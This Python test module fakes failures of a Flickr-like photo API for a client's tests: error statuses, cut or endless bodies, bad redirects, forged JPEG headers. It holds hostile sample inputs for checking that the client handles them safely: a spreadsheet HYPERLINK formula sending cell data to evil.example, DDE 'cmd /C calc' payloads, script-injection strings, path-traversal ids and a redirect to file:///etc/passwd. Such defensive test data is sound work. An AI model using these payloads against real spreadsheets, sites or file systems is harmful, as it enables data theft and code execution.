"""What can go wrong with the service of the tests, and with which requests it does."""

import struct
import time
from collections import Counter
from collections.abc import Collection, Mapping, Sequence
from dataclasses import dataclass, field, replace
from email.utils import formatdate
from typing import Any, Literal

from tests.flickr.pictures import draw_jpeg

__all__ = [
    "HOSTILE_RECORDS",
    "HOSTILE_TITLES",
    "UNAVAILABLE",
    "Answer",
    "Fault",
    "FaultKind",
    "Faults",
    "passing_faults",
]

UNAVAILABLE = "/pw/images/en-us/photo_unavailable.png"
"""Where the service sends who asks for a photo that is gone."""

FaultKind = Literal[
    "status",
    "error",
    "cut",
    "reset",
    "slow",
    "flood",
    "empty",
    "html",
    "invalid",
    "truncated",
    "resized",
    "huge",
    "unavailable",
    "elsewhere",
    "file",
    "loop",
]

HOSTILE_TITLES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "\tleading tab",
    "'leading apostrophe",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "| cell | cell |\n|---|---|\n# heading",
    "two\r\nlines, \"quoted\", with 'commas'",
    "bell \x07, escape \x1b[31mred\x1b[0m, null \x00",
    "\u202egnp.exe\u202c and \u2066isolate\u2069",
    "../../../etc/passwd",
    "C:\\Windows\\System32",
    "emoji \U0001f600, combining e\u0301, lone \ud800",
    "&lt;already&gt; &amp; escaped",
    "x" * 5000,
    "",
)
"""Titles, names and tags that must stay text wherever they are written."""

HOSTILE_RECORDS: tuple[Mapping[str, Any], ...] = (
    {"id": "../../../../tmp/evil"},
    {"id": "..\\..\\evil"},
    {"id": "/etc/passwd"},
    {"id": ".."},
    {"id": ""},
    {"id": "1\n2"},
    {"id": "\u0661\u0662\u0663"},
    {"id": "<b>1</b>"},
    {"id": "=1+1"},
    {"id": "1" * 400},
    {"id": None},
    {"id": ["1"]},
    {"id": {"_content": "../evil"}},
    {"secret": "../../x"},
    {"secret": "a/b"},
    {"secret": "abcd?x=1#"},
    {"secret": ""},
    {"secret": None},
    {"server": ".."},
    {"server": "65535/../.."},
    {"server": "@evil.example"},
    {"server": "//evil.example/1"},
    {"owner": '"><script>alert(1)</script>'},
    {"owner": "../x"},
    {"license": "four"},
    {"license": None},
)
"""What is no photo's record, though it may look like one: nothing of it can be fetched."""


@dataclass(frozen=True)
class Answer:
    """What the server says to a request.

    Attributes
    ----------
    cut : int, optional
        After how many bytes of the body the connection is closed.
    is_reset : bool
        Whether it is broken off instead, before any answer.
    seconds : float
        How long the body takes.
    is_endless : bool
        Whether the body is sent again and again.
    """

    body: bytes = b""
    status: int = 200
    content_type: str = "application/json; charset=utf-8"
    headers: tuple[tuple[str, str], ...] = ()
    cut: int | None = None
    is_reset: bool = False
    seconds: float = 0.0
    is_endless: bool = False


@dataclass
class Fault:
    """One thing that goes wrong with some requests.

    Attributes
    ----------
    kind : str
        ``status`` (answered with `status`), ``error`` (a failed call with `code`), ``cut``
        (the connection closed in the middle of the body), ``reset`` (broken off), ``slow``
        (the body takes `seconds`), ``flood`` (it does not end), ``empty``, ``html``,
        ``invalid`` (no JSON, no picture); for pictures also ``truncated`` (with the length
        that it says), ``resized``, ``huge`` (it says 60,000 pixels square), and the redirects
        ``unavailable``, ``elsewhere`` (another host), ``file`` and ``loop``.
    every, turn : int
        It hits every so many of the requests that it is about: those whose number, divided by
        `every`, leaves `turn`; and
    first : int
        the first so many. Without both, all.
    at_most : int
        So often with one and the same request; 0 for no limit.
    ids : collection of str
        It is only about these photos.
    method : str
        It is only about this one of the API's methods.
    retry_after : int, optional
        Seconds that a `status` tells to wait, `as_date` by a date.
    """

    kind: FaultKind
    every: int = 0
    turn: int = 0
    first: int = 0
    at_most: int = 0
    ids: Collection[str] = ()
    method: str = ""
    status: int = 500
    code: int = 105
    retry_after: int | None = None
    as_date: bool = False
    seconds: float = 0.0
    _asked: int = field(default=0, init=False, repr=False)
    _served: Counter[str] = field(default_factory=Counter, init=False, repr=False)

    @property
    def name(self) -> str:
        """By which it is counted."""
        if self.kind == "error":
            return f"error {self.code}"
        if self.kind != "status":
            return self.kind
        if self.retry_after is None:
            return str(self.status)
        return f"{self.status} {'date' if self.as_date else 'seconds'}"

    def hits(self, request: str, photo: str, method: str) -> bool:
        """Note a request, and return whether the fault hits it."""
        if (self.ids and photo not in self.ids) or (self.method and method != self.method):
            return False
        self._asked += 1
        if (self.first or self.every) and not self._is_chosen():
            return False
        if self.at_most and self._served[request] >= self.at_most:
            return False
        self._served[request] += 1
        return True

    def _is_chosen(self) -> bool:
        is_in_turn = bool(self.every) and self._asked % self.every == self.turn
        return is_in_turn or self._asked <= self.first

    def spoil(self, answer: Answer, url: str) -> Answer:
        """Return what is said instead; `url` is what was asked for."""
        if self.kind == "status":
            return Answer(b"Try later.", self.status, "text/plain", self._retry_after())
        if self.kind in _REDIRECTS:
            return redirect(_REDIRECTS[self.kind], url)
        if self.kind == "slow":
            return replace(answer, seconds=self.seconds)
        return _spoil_body(self.kind, answer)

    def _retry_after(self) -> tuple[tuple[str, str], ...]:
        if self.retry_after is None:
            return ()
        if not self.as_date:
            return (("Retry-After", str(self.retry_after)),)
        # dates hold whole seconds: rounded up, so that it is never less than was said
        return (("Retry-After", formatdate(int(time.time()) + 1 + self.retry_after, usegmt=True)),)


_REDIRECTS = {
    "unavailable": UNAVAILABLE,
    "elsewhere": "//localhost/elsewhere.jpg",
    "file": "file:///etc/passwd",
    "loop": "",
}


def redirect(location: str, url: str) -> Answer:
    """Return a redirect from `url`: to a path there, to another name of the host, or anywhere."""
    scheme, _, rest = url.partition("://")
    host, _, path = rest.partition("/")
    if location.startswith("//localhost"):
        port = host.partition(":")[2]
        location = f"{scheme}://localhost:{port}{location.removeprefix('//localhost')}"
    elif not location:
        location = f"{scheme}://{host}/{path}"
    elif location.startswith("/"):
        location = f"{scheme}://{host}{location}"
    return Answer(b"", 302, "text/html", (("Location", location),))


def _spoil_body(kind: FaultKind, answer: Answer) -> Answer:
    spoilt = {
        "cut": {"cut": len(answer.body) // 2},
        "reset": {"is_reset": True},
        "flood": {"is_endless": True},
        "empty": {"body": b""},
        "html": {"body": _HTML, "content_type": "text/html; charset=utf-8"},
        "invalid": {"body": b'{"photos": {"page": 1, "photo": [{"id": '},
        "truncated": {"body": answer.body[: len(answer.body) * 2 // 3]},
    }
    if kind == "resized":
        return replace(answer, body=draw_jpeg(1, 60, 45))
    if kind == "huge":
        return replace(answer, body=_draw_huge())
    return replace(answer, **spoilt[kind])  # type: ignore[arg-type]


_HTML = b"<!DOCTYPE html><html><head><title>Flickr</title></head><body>We'll be back.</body></html>"


def _draw_huge() -> bytes:
    """Return a small JPEG whose head says that it is a huge one."""
    picture = bytearray(draw_jpeg(1, 60, 45))
    # SOF0: marker, length and precision, then height and width (ITU T.81, B.2.2)
    at = picture.index(b"\xff\xc0") + 5
    picture[at : at + 4] = struct.pack(">HH", 60_000, 60_000)
    return bytes(picture)


@dataclass
class Faults:
    """All that goes wrong.

    Attributes
    ----------
    api, static : list of Fault
        With calls, and with pictures. Of those that hit a request, the first counts.
    ignored : set of str
        Parameters of a search that are not listened to, as if they were misspelt: without
        ``license``, records come whose licence was not asked for.
    licences : mapping of str to int
        The licence that the record of a photo shows, by its id, whatever was asked for.
    deleted : set of str
        Ids of photos that are found and cannot be fetched any more.
    duplicates : int
        Every so many records of a search come twice.
    overlap : int
        A page begins with the last so many records of the page before.
    total_factors : sequence of float
        What ``total`` is multiplied by, on one page after another.
    hostile : int
        After every so many records, one of `HOSTILE_RECORDS` comes beside.
    numbers_as_strings : bool
        Whether the service writes its numbers so.
    needs_signature : bool
        Whether a call without one is refused (97).
    says_oauth_problem : bool
        Whether a wrong signature is answered by a status 401 and not as a failed call (96).
    injected : Counter of str
        How often each was served, by name.
    """

    api: list[Fault] = field(default_factory=list)
    static: list[Fault] = field(default_factory=list)
    ignored: set[str] = field(default_factory=set)
    licences: Mapping[str, int] = field(default_factory=dict)
    deleted: set[str] = field(default_factory=set)
    duplicates: int = 0
    overlap: int = 0
    total_factors: Sequence[float] = ()
    hostile: int = 0
    numbers_as_strings: bool = False
    needs_signature: bool = False
    says_oauth_problem: bool = False
    injected: Counter[str] = field(default_factory=Counter)

    def of_call(self, request: str, photo: str, method: str) -> Fault | None:
        """Return what goes wrong with a call."""
        return self._choose(self.api, "api ", request, photo, method)

    def of_picture(self, request: str, photo: str) -> Fault | None:
        """Return what goes wrong with a picture."""
        return self._choose(self.static, "static ", request, photo, "")

    def _choose(
        self, faults: list[Fault], place: str, request: str, photo: str, method: str
    ) -> Fault | None:
        # each counts on its own, whatever the others do
        hitting = [fault for fault in faults if fault.hits(request, photo, method)]
        for fault in hitting[:1]:
            self.injected[place + fault.name] += 1
            return fault
        return None


def passing_faults(every: int = 7) -> Faults:
    """Return faults of every kind that passes: who asks again gets everything in the end.

    Parameters
    ----------
    every : int
        Every so many requests one goes wrong; the kinds take turns.
    """
    both: list[dict[str, Any]] = [
        {"kind": "status", "status": 429, "retry_after": 0},
        {"kind": "status", "status": 429, "retry_after": 0, "as_date": True},
        {"kind": "status", "status": 429},
        {"kind": "status", "status": 500},
        {"kind": "status", "status": 503},
        {"kind": "cut"},
        {"kind": "reset"},
        {"kind": "slow", "seconds": 0.2},
        {"kind": "empty"},
        {"kind": "html"},
        {"kind": "invalid"},
    ]
    calls = [*both, {"kind": "error", "code": 105}, {"kind": "error", "code": 10}]
    pictures = [*both, {"kind": "truncated"}, {"kind": "resized"}]
    return Faults(api=_take_turns(calls, every), static=_take_turns(pictures, every))


def _take_turns(faults: list[dict[str, Any]], every: int) -> list[Fault]:
    round_ = every * len(faults)
    return [
        Fault(**fault, every=round_, turn=every * (at + 1) % round_, at_most=1)
        for at, fault in enumerate(faults)
    ]
